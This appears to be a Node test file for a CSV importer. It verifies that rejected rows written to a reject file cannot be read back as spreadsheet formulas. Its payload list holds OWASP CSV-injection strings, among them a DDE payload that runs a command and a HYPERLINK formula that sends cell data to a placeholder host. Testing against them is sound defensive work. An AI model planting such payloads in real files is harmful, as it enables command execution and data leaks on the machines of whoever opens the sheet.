/**
 * --reject-file is opened by the administrator in Excel or LibreOffice: a bad row's cells must never
 * come back as formulas (issue 29, N8: `=cmd|…`, `+…`, `=1+1` were written raw). Read back with SheetJS
 * (a spreadsheet program's CSV reader we did not write), which turns a cell starting with "=" into a
 * formula, as Excel does.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import XLSX from 'xlsx';
import { importFile } from './importer.js';
import { QUALITY_HEADER, testPlants } from './test-plant.js';

const plants = testPlants('reject-file', 200);

/** OWASP "CSV Injection" payloads, and the DDE one from its page, in the text columns of bad rows */
const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  '=1+1',
  '+1+1',
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.invalid/?"&A1,"Click")',
  '\t=1+1',
];

test('--reject-file: cells that start a formula are written as text (a leading quote), as the reports do', async () => {
  const file = path.join(plants.dir, 'formulas.csv');
  const rows = [QUALITY_HEADER, 'A,2026-11-30,day,OK1,铰链,480,3,burr,张伟,2026-11-30 09:00'];
  // each payload in the inspector column of a row that is bad for another reason (shift 早班)
  PAYLOADS.forEach((payload, index) =>
    rows.push(`A,2026-11-30,早班,BAD${index},铰链,480,3,burr,"${payload.replaceAll('"', '""')}",2026-11-30 09:00`),
  );
  writeFileSync(file, `${rows.join('\n')}\n`);
  const rejectFile = path.join(plants.dir, 'formulas.rejects.csv');
  const report = await importFile({
    db: plants.fresh(),
    table: 'quality_data',
    file,
    rejectFile,
    importedAt: '2026-12-05T08:00:00',
  });
  assert.equal(report.status, 'imported');
  assert.equal(report.rejected, PAYLOADS.length);
  const text = readFileSync(rejectFile, 'utf8');
  const sheet = XLSX.read(text.replace(/^\uFEFF/, ''), { type: 'string', raw: false });
  const cells = sheet.Sheets[sheet.SheetNames[0]!]!;
  const formulas = Object.entries(cells).filter(([key, cell]) => !key.startsWith('!') && (cell as XLSX.CellObject).f);
  assert.deepEqual(formulas, [], 'no cell of the reject file is read as a formula');
  const header = text
    .split('\r\n')[0]!
    .replace(/^\uFEFF/, '')
    .split(',');
  const inspector = header.indexOf('inspector');
  const written = XLSX.utils
    .sheet_to_json<string[]>(cells, { header: 1, raw: false })
    .slice(1)
    .map((row) => row[inspector]);
  assert.deepEqual(
    written,
    PAYLOADS.map((payload) => `'${payload}`),
    'each payload kept whole, behind a quote',
  );
  // the row numbers and the error column are data the importer wrote: never a formula either
  assert.match(text, /\r\n3,A,/, 'the row numbers stay plain numbers (row 3: the first bad row)');
});
